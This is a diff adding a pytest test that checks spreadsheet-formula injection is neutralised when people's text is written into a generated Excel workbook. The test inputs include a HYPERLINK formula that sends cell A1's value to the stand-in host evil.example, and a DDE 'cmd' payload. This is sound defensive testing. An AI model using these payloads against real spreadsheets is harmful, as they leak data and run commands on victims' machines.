@@ -325,3 +325,18 @@ def _png(width: int, height: int) -> bytes:
     buffer = io.BytesIO()
     Image.new("RGB", (width, height), (192, 0, 0)).save(buffer, format="PNG")
     return buffer.getvalue()
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/x?"&A1,"点击查看佐证")',
+                                  "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"])
+def test_peoples_text_that_looks_like_a_formula_stays_text_in_the_workbook(text: str) -> None:
+    figures = district()
+    figures = replace(figures, completed=[replace(c, evidence=text, title=text)
+                                          for c in figures.completed])
+    data = bulletin_workbook(figures)
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        sheets = [book.read(n).decode() for n in book.namelist()
+                  if n.startswith("xl/worksheets/")]
+    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
+    cells = [c for row in load_workbook(io.BytesIO(data))["本期完成"].iter_rows() for c in row]
+    assert [c.data_type for c in cells if c.value == text] == ["s", "s"]
